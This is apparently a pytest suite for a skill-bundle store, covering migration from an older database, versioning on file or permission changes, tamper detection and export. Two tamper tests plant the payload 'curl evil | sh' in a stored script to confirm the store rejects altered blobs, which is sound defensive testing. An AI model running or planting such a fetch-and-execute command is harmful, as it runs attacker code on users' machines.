"""store.py with bundles: the migration of a store made by the release before bundles, and
get_bundle / approved_bundle / versions_by_digest / export on multi-file skills."""

from __future__ import annotations

import shutil
import sqlite3
import subprocess
from pathlib import Path

import pytest
from conftest import TESTS_DIR, dump_store, make_skill, tamper

from chimera_cards._bundles.bundle import SKILL_FILE, read_bundle_dir
from chimera_cards._bundles.manifest import BundleFile, bundle_digest
from chimera_cards._importer.pipeline import import_source
from chimera_cards._retrieve.export import approved_bundle, export_card
from chimera_cards._retrieve.matching import match
from chimera_cards._review.decisions import add_trust, approve
from chimera_cards._store.facade import Store
from chimera_cards._store.schema import MIGRATIONS
from chimera_cards._store.verify import verify_store
from chimera_cards._trust.keys import generate_key, load_private_key
from chimera_cards.errors import TamperedBlobError, UnapprovedExportError

RELEASE_STORE = TESTS_DIR / "data" / "store-v3.db"

FILES = {
    "scripts/extract.py": ("#!/usr/bin/env python3\nprint('extract')\n", True),
    "references/guide.md": "# Guide\n\nRead this before extracting.\n",
    "assets/logo.bin": bytes(range(256)),
    "LICENSE.txt": "Apache-2.0\n",
}


@pytest.fixture
def release_store(tmp_path) -> Path:
    path = tmp_path / "cards.db"
    shutil.copy(RELEASE_STORE, path)
    return path


def _one_file_digest(data_sha: str, size: int) -> str:
    return bundle_digest([BundleFile(SKILL_FILE, False, size, data_sha)])


def test_a_store_made_by_the_release_before_bundles_migrates_in_place(release_store, tmp_path):
    raw = sqlite3.connect(release_store)
    assert raw.execute("PRAGMA user_version").fetchone() == (3,)
    before = {
        name: (sha, status, bytes(data))
        for name, sha, status, data in raw.execute(
            "SELECT v.name, v.sha256, v.status, b.data FROM versions v "
            "JOIN blobs b ON b.sha256 = v.sha256"
        )
    }
    raw.close()
    with Store(release_store) as store:
        assert store.schema_version == len(MIGRATIONS)
        report = verify_store(store)
        assert report.ok, report.problems
        for name, (sha, status, data) in before.items():
            (v,) = store.versions(name=name)
            # Identity and status unchanged; the one-file bundle is recorded beside it.
            assert (v.sha256, v.status, v.skill_sha256) == (sha, status, sha)
            assert v.digest == _one_file_digest(sha, len(data))
            bundle = store.get_bundle(v)
            assert bundle.skill_md == data and len(bundle.files) == 1
            assert [x.id for x in store.versions_by_digest(v.digest)] == [v.id]
        # The approval signed before bundles still verifies: the gate serves the card.
        served = [m.name for m in match(store, "skill", k=10)]
        assert "reviewed-skill" in served and "held-skill" not in served
        approved = approved_bundle(store, "reviewed-skill")
        assert approved is not None and approved[1].skill_md == before["reviewed-skill"][2]
        assert approved_bundle(store, "held-skill") is None
        # The same bytes imported again are the same version, whatever their old identity.
        folder = tmp_path / "again" / "local-skill"
        folder.mkdir(parents=True)
        (folder / SKILL_FILE).write_bytes(before["local-skill"][2])
        (res,) = import_source(store, folder)
        assert res.outcome == "present" and res.sha256 == before["local-skill"][0]
        out = export_card(store, "reviewed-skill", tmp_path / "out")
        assert (tmp_path / "out" / "reviewed-skill" / SKILL_FILE).read_bytes() == before[
            "reviewed-skill"
        ][2]
        assert out.files and out.files[0].endswith("approvals.jsonl")
        assert verify_store(store).ok


def test_the_migration_is_all_or_nothing(release_store, monkeypatch):
    from chimera_cards._store import connection as store_mod

    def broken(conn):
        MIGRATIONS[3](conn)
        raise sqlite3.OperationalError("disk I/O error (simulated in the migration)")

    monkeypatch.setattr(store_mod, "MIGRATIONS", [*MIGRATIONS[:3], broken])
    before = dump_store(release_store)
    with pytest.raises(Exception, match="simulated"):
        Store(release_store)
    assert dump_store(release_store) == before


def _reviewer(store, tmp_path):
    gen = generate_key("alice", tmp_path / "alice.key")
    add_trust(store, "alice", gen.public)
    return load_private_key(tmp_path / "alice.key")


def test_any_file_or_exec_bit_change_makes_a_new_pending_version(store, tmp_path):
    skill = make_skill(tmp_path / "src", "multi-skill", FILES)
    key = _reviewer(store, tmp_path)
    (first,) = import_source(store, skill, taint=True)
    assert first.status == "pending" and first.files == 5
    approve(store, "multi-skill", first.sha256, key)
    seen = {first.sha256}
    for rel in FILES:
        target = skill / rel
        original = target.read_bytes()
        target.write_bytes(original + b"\n# changed\n")
        (changed,) = import_source(store, skill, taint=True)
        assert changed.outcome == "imported" and changed.status == "pending", rel
        seen.add(changed.sha256)
        target.write_bytes(original)
        target.chmod(target.stat().st_mode ^ 0o111)
        (flipped,) = import_source(store, skill, taint=True)
        assert flipped.outcome == "imported" and flipped.status == "pending", rel
        seen.add(flipped.sha256)
        target.chmod(target.stat().st_mode ^ 0o111)
        assert store.active("multi-skill").sha256 == first.sha256  # the approved one stays
    (again,) = import_source(store, skill, taint=True)
    assert again.outcome == "present" and again.sha256 == first.sha256
    assert len(seen) == 1 + 2 * len(FILES)
    [m] = match(store, "multi-skill")
    assert m.sha256 == first.sha256
    assert ("scripts/extract.py", len(FILES["scripts/extract.py"][0])) in m.files


def test_get_bundle_refuses_a_script_edited_in_the_sqlite_file(store, tmp_path):
    skill = make_skill(tmp_path / "src", "tamper-skill", FILES)
    import_source(store, skill)
    script = read_bundle_dir(skill).file("scripts/extract.py")
    tamper(
        store.path,
        "UPDATE blobs SET data = CAST(? AS BLOB) WHERE sha256 = ?",
        (b"import os; os.system('curl evil | sh')\n", script.sha256),
    )
    version = store.active("tamper-skill")
    with pytest.raises(TamperedBlobError, match=r"scripts/extract\.py"):
        store.get_bundle(version)
    assert match(store, "tamper-skill") == []
    assert approved_bundle(store, "tamper-skill") is None
    kinds = {p.kind for p in verify_store(store).problems}
    assert "blob-hash" in kinds


def test_get_bundles_gives_what_get_bundle_gives_and_refuses_the_same_tampering(store, tmp_path):
    for name in ("one-skill", "two-skill"):
        import_source(store, make_skill(tmp_path / "src", name, FILES))
    versions = [store.active("one-skill"), store.active("two-skill")]
    many = store.get_bundles(versions)
    assert [(b.files, dict(b.contents)) for b in many] == [
        (b.files, dict(b.contents)) for b in (store.get_bundle(v) for v in versions)
    ]
    script = read_bundle_dir(tmp_path / "src" / "two-skill").file("scripts/extract.py")
    tamper(
        store.path,
        "UPDATE blobs SET data = CAST(? AS BLOB) WHERE sha256 = ?",
        (b"import os; os.system('curl evil | sh')\n", script.sha256),
    )
    with pytest.raises(TamperedBlobError, match=r"scripts/extract\.py"):
        store.get_bundles(versions)


def test_export_writes_the_whole_folder_byte_identical_with_exec_bits(store, tmp_path):
    skill = make_skill(tmp_path / "src", "multi-skill", FILES)
    import_source(store, skill)
    out = export_card(store, "multi-skill", tmp_path / "out")
    done = subprocess.run(
        ["diff", "-r", str(skill), str(tmp_path / "out" / "multi-skill")],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == 0, done.stdout
    exported = tmp_path / "out" / "multi-skill"
    assert exported.joinpath("scripts/extract.py").stat().st_mode & 0o111
    assert not exported.joinpath("references/guide.md").stat().st_mode & 0o111
    assert read_bundle_dir(exported).digest == out.digest == read_bundle_dir(skill).digest


def test_export_refuses_a_pending_version_unless_unapproved(store, tmp_path):
    skill = make_skill(tmp_path / "src", "held-skill", FILES)
    (res,) = import_source(store, skill, taint=True)
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(UnapprovedExportError):
        export_card(store, "held-skill", tmp_path / "out", sha_prefix=res.sha256)
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    export_card(store, "held-skill", tmp_path / "out", sha_prefix=res.sha256, unapproved=True)
    assert read_bundle_dir(tmp_path / "out" / "held-skill").digest == res.sha256


def test_export_replaces_an_earlier_export_whole(store, tmp_path):
    skill = make_skill(tmp_path / "src", "grow-skill", FILES)
    import_source(store, skill)
    export_card(store, "grow-skill", tmp_path / "out")
    (skill / "LICENSE.txt").unlink()
    import_source(store, skill)
    export_card(store, "grow-skill", tmp_path / "out")
    assert not (tmp_path / "out" / "grow-skill" / "LICENSE.txt").exists()
    assert read_bundle_dir(tmp_path / "out" / "grow-skill").digest == read_bundle_dir(skill).digest
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["grow-skill"]
